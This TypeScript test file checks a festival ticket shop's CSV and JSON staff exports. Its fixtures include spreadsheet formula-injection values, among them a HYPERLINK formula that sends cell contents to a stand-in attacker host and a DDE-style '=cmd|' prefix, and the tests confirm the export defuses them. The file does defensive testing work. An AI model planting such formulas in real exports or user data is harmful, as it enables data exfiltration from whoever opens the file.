import { english, isoInZone, questionDefinition, staffAdminMessages, staffApi, staffExportMessages, type Order, type QuestionDefinitionInput } from '@festival/contract';
import { and, asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testEngines } from '../../../test/databases';
import { createCustomer, paidOrder } from '../../../test/shop-flows';
import { staffCall } from '../../../test/staff-call';
import { signedInStaff } from '../../../test/staff-sign-in';
import { createStatementRecorder } from '../../../test/statement-recorder';
import { createTestShop, type TestShop } from '../../../test/test-shop';
import { checkinLists, checkins, checkinStates, customers, events, invoices, orders, productQuestions, questionAnswers, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
import { questionColumns, upsertQuestion } from '../catalog/questions.queries';
import { CSV_BOM, readCsv, undefused } from './csv';
import { timeLimit } from '../../../test/time-limits';
import { answerColumn } from './exports.service';

const SECRET = 'exports-test-secret-of-at-least-32-characters';
const HOSTILE_BUYER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const HOSTILE_HOLDERS = ['@SUM(A1:A9)', '-2+3', 'Zoë "Z" de Vries 🎉', '\u200Fשלום, world\r\nnext line'];

type Row = Record<string, unknown>;

/**
 * Issue 22 point 7: orders, attendees and check-ins as CSV that spreadsheets open correctly (UTF-8
 * with a BOM, quoted, CRLF, formula-safe) and as JSON with the same fields; the CSV reads back to
 * the JSON's values; a few thousand tickets export in a fixed number of statements; each export
 * is audited.
 */
describe.each(testEngines())('the exports on %s', (engine) => {
  let shop: TestShop;
  let base: string;
  let admin: string;
  let order: Order;
  let buyer: Awaited<ReturnType<typeof createCustomer>>;
  let departure: Date;
  let otherTicket: string;
  let listCode: string;

  beforeAll(async () => {
    shop = await createTestShop(engine, { app: { appSecret: SECRET, catalogMaxAgeMs: 0 } });
    base = await shop.app.listen({ port: 0, host: '127.0.0.1' });
    const db = shop.database.db;
    admin = (await signedInStaff(shop.app, db, { email: 'export.admin@example.org', role: 'admin' })).cookie;
    buyer = await createCustomer(shop);
    const [shuttle] = await db.select({ id: shopItems.id }).from(shopItems).where(eq(shopItems.externalCode, 'NWF27-SHUTTLE'));
    const [time] = await db.select().from(travelTimes).where(eq(travelTimes.shopItemId, shuttle!.id)).orderBy(asc(travelTimes.departsAt)).limit(1);
    departure = time!.departsAt;
    order = await paidOrder(shop, base, buyer, [{ code: 'NWF27-WEEKEND' }, { code: 'NWF27-WEEKEND' }, { code: 'NWF27-DAY-SAT' }, { code: 'NWF27-SHUTTLE', transport_time_id: time!.id }], ['NWF27-TEE-LINEUP']);
    expect(order.payment_status).toBe('paid');
    // Names as customers may type them: formulas, quotes, emoji, right-to-left marks, line breaks.
    await db.update(customers).set({ fullName: HOSTILE_BUYER }).where(eq(customers.id, buyer.id));
    for (const [index, name] of HOSTILE_HOLDERS.entries()) await db.update(tickets).set({ fullName: name }).where(eq(tickets.code, order.tickets[index]!.code));

    // Check-ins: the first ticket inside, the second in and out again, the others never scanned.
    const [list] = await db.select().from(checkinLists).where(eq(checkinLists.code, 'NWF27-ENTRANCE'));
    listCode = list!.code;
    const [scanner] = await db.insert(scanners).values({ name: '+Gate phone 1', codeHash: 'exports-test-scanner' }).returning();
    const ids = await db.select({ id: tickets.id, code: tickets.code }).from(tickets).where(eq(tickets.orderId, order.id)).orderBy(asc(tickets.id));
    const at = new Date('2027-06-18T12:00:00.000Z');
    await db.insert(checkinStates).values([
      { ticketId: ids[0]!.id, listId: list!.id, inside: true, firstInAt: at, lastAt: at, lastGate: 'North' },
      { ticketId: ids[1]!.id, listId: list!.id, inside: false, firstInAt: at, lastAt: at, lastGate: 'South' },
    ]);
    await db.insert(checkins).values([
      { ticketId: ids[0]!.id, listId: list!.id, scannerId: scanner!.id, gate: 'North', kind: 'in', scannedAt: at, nonce: 'exports-1' },
      { ticketId: ids[1]!.id, listId: list!.id, scannerId: scanner!.id, gate: '=South', kind: 'in', scannedAt: at, nonce: 'exports-2' },
      { ticketId: ids[1]!.id, listId: list!.id, scannerId: null, gate: 'South', kind: 'out', scannedAt: new Date(at.getTime() + 60_000), nonce: 'exports-3', offline: true },
    ]);

    // Another event's order, which an export of NWF27 leaves out.
    const [other] = await db.insert(events).values({ externalCode: 'OTHER27', name: 'Other fest', timezone: 'Europe/Amsterdam' }).returning();
    const [otherItem] = await db.insert(shopItems).values({ externalCode: 'OTHER27-DAY', shopItemType: 'tickets', eventId: other!.id, name: 'Other day', type: 'ticket', price: 1000 }).returning();
    const [otherOrder] = await db.insert(orders).values({ code: 'OTHERORDER1', customerId: buyer.id, totalPrice: 1000, paymentMethod: 'bank_transfer' }).returning();
    otherTicket = 'OTHERTICKET00000001';
    await db.insert(tickets).values({ code: otherTicket, orderId: otherOrder!.id, shopItemId: otherItem!.id, productName: 'Other day', productType: 'ticket', fullName: 'Other holder', price: 1000, fee: 0 });
  }, timeLimit(120_000));
  afterAll(async () => {
    await shop?.close();
  });

  async function exported(payload: Record<string, unknown>, cookie = admin) {
    const answer = await staffCall(shop.app, 'staff-export', payload, cookie);
    expect(answer.status, JSON.stringify(answer.body).slice(0, 300)).toBe(200);
    return staffApi['staff-export'].answer.parse(answer.body);
  }

  /** The CSV and the JSON of one export: the CSV's rows read back, defused cells as they were, equal the JSON's. */
  async function both(what: string, event?: string): Promise<{ csv: string; rows: Row[]; cells: string[][] }> {
    const csv = await exported({ what, format: 'csv', ...(event ? { event } : {}) });
    const json = await exported({ what, format: 'json', ...(event ? { event } : {}) });
    expect(csv).toMatchObject({ media_type: 'text/csv; charset=utf-8', filename: expect.stringMatching(new RegExp(`^${what}${event ? `-${event}` : ''}-\\d{8}-\\d{4}\\.csv$`)) });
    expect(json).toMatchObject({ media_type: 'application/json', filename: expect.stringMatching(/\.json$/) });
    expect(csv.content.startsWith(CSV_BOM)).toBe(true);
    const rows = JSON.parse(json.content) as Row[];
    const [header, ...cells] = readCsv(csv.content);
    expect(cells).toHaveLength(rows.length);
    for (const [index, row] of rows.entries()) {
      expect(Object.keys(row)).toEqual(header);
      const asText = header!.map((key) => {
        const value = row[key];
        if (Array.isArray(value)) return value.map((item: { name: string; code: string; status: string }) => `${item.name} (${item.code}, ${item.status})`).join('; ');
        return value === null ? '' : String(value);
      });
      expect(cells[index]!.map(undefused)).toEqual(asText);
    }
    return { csv: csv.content, rows, cells };
  }

  it('exports orders with buyer, totals as decimals and minor units, payment method and items; formula-safe CSV that reads back to the JSON', async () => {
    const { csv, rows, cells } = await both('orders', 'NWF27');
    const row = rows.find((candidate) => candidate.code === order.code)!;
    expect(row).toMatchObject({
      buyer: HOSTILE_BUYER,
      email: buyer.email,
      status: 'paid',
      currency: shop.config.currency,
      total_minor: order.total_price,
      total: `${Math.floor(order.total_price / 100)}.${String(order.total_price % 100).padStart(2, '0')}`,
      paid_minor: order.total_paid,
      refunded_minor: 0,
      refunded: '0.00',
      payment_method: 'credit_card',
    });
    // The event's clocks with their offset (Amsterdam, winter or summer), the same instant as the order's.
    const [placed] = await shop.database.db.select({ at: orders.createdAt }).from(orders).where(eq(orders.id, order.id));
    expect(row.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+0[12]:00$/);
    expect(Date.parse(row.created_at as string)).toBe(placed!.at.getTime());
    // VAT as the order's invoice states it, the booking fees, shipping, voucher and the channel it was sold through.
    const [invoice] = await shop.database.db.select({ content: invoices.content }).from(invoices).where(eq(invoices.orderId, order.id));
    const invoiceVat = (invoice!.content as { rates: { tax: number }[] }).rates.reduce((sum, rate) => sum + rate.tax, 0);
    const fees = [...order.tickets, ...order.merchandisePurchases].reduce((sum, item) => sum + item.fee, 0);
    expect(invoiceVat).toBeGreaterThan(0);
    expect(fees).toBeGreaterThan(0);
    expect(row).toMatchObject({ channel: 'Online', vat_minor: invoiceVat, fees_minor: fees, fees: `${Math.floor(fees / 100)}.${String(fees % 100).padStart(2, '0')}`, voucher: null, discount_minor: 0, shipping_minor: order.shipping_amount });
    expect((row.items as { code: string }[]).map((item) => item.code).sort()).toEqual([...order.tickets.map((ticket) => ticket.code), ...order.merchandisePurchases.map((purchase) => purchase.code)].sort());
    expect(rows.map((candidate) => candidate.code)).not.toContain('OTHERORDER1');
    // Every row ends in CRLF; the formula is defused in the file itself.
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(cells.find((candidate) => candidate[0] === order.code)![3]).toBe(`'${HOSTILE_BUYER}`);
    // The whole shop: the other event's order too.
    expect((await both('orders')).rows.map((candidate) => candidate.code)).toContain('OTHERORDER1');
  });

  it('exports attendees with product, travel time and whether they are inside, left or never came; hostile names defused', async () => {
    const { rows, cells } = await both('attendees', 'NWF27');
    const byCode = new Map(rows.map((row) => [row.ticket_code, row]));
    const [first, second, third, shuttle] = order.tickets;
    expect(byCode.get(first!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[0], product: first!.product, event: 'NWF27', checkin: 'inside', status: 'active', order_code: order.code, travel_time: null });
    expect(byCode.get(second!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[1], checkin: 'left' });
    expect(byCode.get(third!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[2], checkin: 'never' });
    expect(byCode.get(shuttle!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[3], travel_time: isoInZone(departure, 'Europe/Amsterdam') });
    expect(byCode.has(otherTicket)).toBe(false);
    const raw = new Map(cells.map((row) => [row[5], row]));
    expect(raw.get(first!.code)![0]).toBe("'@SUM(A1:A9)");
    expect(raw.get(second!.code)![0]).toBe("'-2+3");
    expect(raw.get(third!.code)![0]).toBe('Zoë "Z" de Vries 🎉');
    // A right-to-left mark first, then text: left as it is, the line break kept inside the cell.
    expect(raw.get(shuttle!.code)![0]).toBe(HOSTILE_HOLDERS[3]);
    expect((await both('attendees')).rows.map((row) => row.ticket_code)).toContain(otherTicket);
  });

  it('exports check-ins: ticket, list, gate, direction, time and scanner', async () => {
    const { rows, cells } = await both('checkins', 'NWF27');
    const [first, second] = order.tickets;
    expect(rows).toEqual([
      { ticket: first!.code, list: listCode, gate: 'North', direction: 'in', at: '2027-06-18T14:00:00.000+02:00', scanner: '+Gate phone 1', offline: false },
      { ticket: second!.code, list: listCode, gate: '=South', direction: 'in', at: '2027-06-18T14:00:00.000+02:00', scanner: '+Gate phone 1', offline: false },
      { ticket: second!.code, list: listCode, gate: 'South', direction: 'out', at: '2027-06-18T14:01:00.000+02:00', scanner: null, offline: true },
    ]);
    expect(cells[1]).toEqual([second!.code, listCode, "'=South", 'in', '2027-06-18T14:00:00.000+02:00', "'+Gate phone 1", 'false']);
  });

  it('records every export in the audit log, refuses an unknown event, and is not for the box office', async () => {
    const before = (await shop.database.db.select().from(staffAudit).where(sql`${staffAudit.action} like 'export.%'`)).length;
    await exported({ what: 'attendees', format: 'json', event: 'NWF27' });
    await exported({ what: 'checkins', format: 'csv' });
    const entries = await shop.database.db.select().from(staffAudit).where(sql`${staffAudit.action} like 'export.%'`).orderBy(asc(staffAudit.id));
    expect(entries.slice(before)).toEqual([
      expect.objectContaining({ actor: 'export.admin@example.org', action: 'export.attendees', target: 'event:NWF27', before: null, after: expect.objectContaining({ format: 'json', event: 'NWF27', rows: expect.any(Number) }) }),
      expect.objectContaining({ action: 'export.checkins', target: null, after: expect.objectContaining({ format: 'csv', event: null, rows: 3 }) }),
    ]);

    const unknown = await staffCall(shop.app, 'staff-export', { what: 'orders', format: 'csv', event: 'NOPE' }, admin);
    expect(unknown).toMatchObject({ status: 404, body: { message: english(staffExportMessages.eventNotFound) } });
    const desk = (await signedInStaff(shop.app, shop.database.db, { email: 'export.desk@example.org', role: 'box_office' })).cookie;
    expect(await staffCall(shop.app, 'staff-export', { what: 'orders', format: 'csv' }, desk)).toMatchObject({ status: 403, body: { message: english(staffAdminMessages.notAllowed) } });
    expect((await shop.database.db.select().from(staffAudit).where(sql`${staffAudit.action} like 'export.%'`)).length).toBe(before + 2);
  });

  it('exports a column per question code with each ticket’s answer, the order’s own repeated on each of its tickets; words as the page shows them, formula-safe', async () => {
    const db = shop.database.db;
    const items = await db.select({ id: shopItems.id, code: shopItems.externalCode }).from(shopItems);
    const idOf = (code: string) => items.find((item) => item.code === code)!.id;
    const ask = async (product: string, questions: QuestionDefinitionInput[]) => {
      for (const [sort, question] of questions.entries()) await upsertQuestion(db, questionColumns(questionDefinition.parse(question), idOf(product), sort));
    };
    await ask('NWF27-WEEKEND', [
      { code: 'size', kind: 'choice', label: 'T-shirt size', options: [{ code: 's', label: 'Small' }, { code: 'm', label: 'Medium' }] },
      { code: 'diet', kind: 'multi', label: 'Diet', options: [{ code: 'veg', label: 'Vegetarian' }, { code: 'nuts', label: 'No nuts, please' }] },
      { code: 'arrival', kind: 'date', label: 'Arrival' },
      { code: 'contact', kind: 'text', label: 'Emergency contact', per: 'order' },
      { code: 'unused', kind: 'yes_no', label: 'Nobody answered this' },
      { code: 'retired', kind: 'yes_no', label: 'Archived, never answered', archived: true },
    ]);
    // The day ticket asks a question of the same code: one column for both.
    await ask('NWF27-DAY-SAT', [{ code: 'size', kind: 'choice', label: 'Size', options: [{ code: 'l', label: 'Large' }] }]);
    await ask('OTHER27-DAY', [{ code: 'other', kind: 'text', label: 'Another event’s question' }]);
    const questionId = async (product: string, code: string) =>
      (await db.select({ id: productQuestions.id }).from(productQuestions).where(and(eq(productQuestions.shopItemId, idOf(product)), eq(productQuestions.code, code))))[0]!.id;
    const [first, second, day, shuttle] = order.tickets;
    const idOfTicket = async (code: string) => (await db.select({ id: tickets.id }).from(tickets).where(eq(tickets.code, code)))[0]!.id;
    await db.insert(questionAnswers).values([
      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'size'), value: 'm' },
      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'diet'), value: ['veg', 'nuts'] },
      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'arrival'), value: '2027-06-18' },
      { orderId: order.id, ticketId: await idOfTicket(second!.code), questionId: await questionId('NWF27-WEEKEND', 'size'), value: 's' },
      { orderId: order.id, ticketId: await idOfTicket(day!.code), questionId: await questionId('NWF27-DAY-SAT', 'size'), value: 'l' },
      { orderId: order.id, ticketId: null, questionId: await questionId('NWF27-WEEKEND', 'contact'), value: '=HYPERLINK("http://evil.example/","call")' },
    ]);

    const { rows, cells, csv } = await both('attendees', 'NWF27');
    const header = readCsv(csv)[0]!;
    // The export's own columns, then one per question code in the order asked; another event's and an archived unanswered one left out.
    expect(header.slice(10)).toEqual(['size', 'diet', 'arrival', 'contact', 'unused'].map(answerColumn));
    const byCode = new Map(rows.map((row) => [row.ticket_code, row]));
    const answersOf = (code: string) => Object.fromEntries(Object.entries(byCode.get(code)!).filter(([key]) => key.startsWith('answer.')));
    const contact = '=HYPERLINK("http://evil.example/","call")';
    expect(answersOf(first!.code)).toEqual({ 'answer.size': 'Medium', 'answer.diet': 'Vegetarian; No nuts, please', 'answer.arrival': '2027-06-18', 'answer.contact': contact, 'answer.unused': null });
    expect(answersOf(second!.code)).toEqual({ 'answer.size': 'Small', 'answer.diet': null, 'answer.arrival': null, 'answer.contact': contact, 'answer.unused': null });
    expect(answersOf(day!.code)).toMatchObject({ 'answer.size': 'Large', 'answer.contact': contact });
    expect(answersOf(shuttle!.code)).toMatchObject({ 'answer.size': null, 'answer.contact': contact });
    // The answer typed as a formula is defused in the file.
    const raw = new Map(cells.map((row) => [row[5], row]));
    expect(raw.get(first!.code)![header.indexOf(answerColumn('contact'))]).toBe(`'${contact}`);
    // The whole shop: the other event's question gets its column.
    expect(Object.keys((await both('attendees')).rows[0]!)).toContain(answerColumn('other'));
  });

  it('exports a few thousand tickets quickly, in as many statements as a handful', async () => {
    const db = shop.database.db;
    const recorder = engine === 'postgres' ? createStatementRecorder() : null;
    try {
      const statementsOf = async (what: string) => {
        recorder?.take();
        const started = performance.now();
        const work = () => exported({ what, format: 'csv', event: 'NWF27' });
        const answer = recorder ? await recorder.during(work) : await work();
        const ms = performance.now() - started;
        // The staff session's "last seen" is written at most once a minute, whichever call that falls on.
        const count = recorder?.take().filter((statement) => !/staff_sessions/i.test(statement.text)).length ?? 0;
        return { count, ms, lines: readCsv(answer.content).length };
      };
      const small = { orders: await statementsOf('orders'), attendees: await statementsOf('attendees') };

      // 3,000 more tickets in 300 orders, some checked in.
      const [item] = await db.select().from(shopItems).where(eq(shopItems.externalCode, 'NWF27-WEEKEND'));
      await db.execute(sql`
        INSERT INTO orders (code, customer_id, total_price, total_paid, payment_method, payment_status)
        SELECT 'BULK' || lpad(n::text, 6, '0'), ${buyer.id}, 10000, 10000, 'credit_card', 'paid' FROM generate_series(1, 300) AS n`);
      await db.execute(sql`
        INSERT INTO tickets (code, order_id, shop_item_id, product_name, product_type, full_name, email, status, price, fee)
        SELECT 'BULKTICKET' || lpad(n::text, 8, '0'), o.id, ${item!.id}, 'Weekend', 'ticket', '=cmd|' || n, 'bulk' || n || '@example.org', 'active', 1000, 0
        FROM generate_series(1, 3000) AS n JOIN orders o ON o.code = 'BULK' || lpad((1 + (n - 1) / 10)::text, 6, '0')`);
      // Their answers (the size question of the test before): still the same statements.
      await db.execute(sql`
        INSERT INTO question_answers (order_id, ticket_id, question_id, value)
        SELECT t.order_id, t.id, q.id, to_jsonb(CASE WHEN t.id % 2 = 0 THEN 's' ELSE 'm' END)
        FROM tickets t JOIN product_questions q ON q.shop_item_id = t.shop_item_id AND q.code = 'size' WHERE t.code LIKE 'BULKTICKET%'`);
      const [list] = await db.select().from(checkinLists).where(eq(checkinLists.code, 'NWF27-ENTRANCE'));
      await db.execute(sql`
        INSERT INTO checkin_states (ticket_id, list_id, inside, first_in_at, last_at, last_gate)
        SELECT id, ${list!.id}, id % 2 = 0, now(), now(), 'North' FROM tickets WHERE code LIKE 'BULKTICKET%' AND id % 3 = 0`);

      const large = { orders: await statementsOf('orders'), attendees: await statementsOf('attendees') };
      expect(large.attendees.lines).toBe(small.attendees.lines + 3000);
      expect(large.orders.lines).toBe(small.orders.lines + 300);
      if (recorder) {
        expect(small.orders.count).toBeGreaterThan(0);
        expect(large.orders.count).toBe(small.orders.count);
        expect(large.attendees.count).toBe(small.attendees.count);
        expect(large.orders.count).toBeLessThan(10);
      }
      expect(large.attendees.ms, 'attendees export of 3,000 tickets').toBeLessThan(3000);
      expect(large.orders.ms, 'orders export of 3,000 tickets').toBeLessThan(3000);

      const bulk = JSON.parse((await exported({ what: 'attendees', format: 'json', event: 'NWF27' })).content) as Row[];
      const checked = bulk.filter((row) => String(row.ticket_code).startsWith('BULKTICKET'));
      expect(new Set(checked.map((row) => row.checkin))).toEqual(new Set(['inside', 'left', 'never']));
      expect(new Set(checked.map((row) => row[answerColumn('size')]))).toEqual(new Set(['Small', 'Medium']));
      const lastRows = await db.select({ id: tickets.id }).from(tickets).where(and(eq(tickets.code, 'BULKTICKET00003000')));
      expect(lastRows).toHaveLength(1);
    } finally {
      recorder?.restore();
    }
  }, timeLimit(60_000));
});
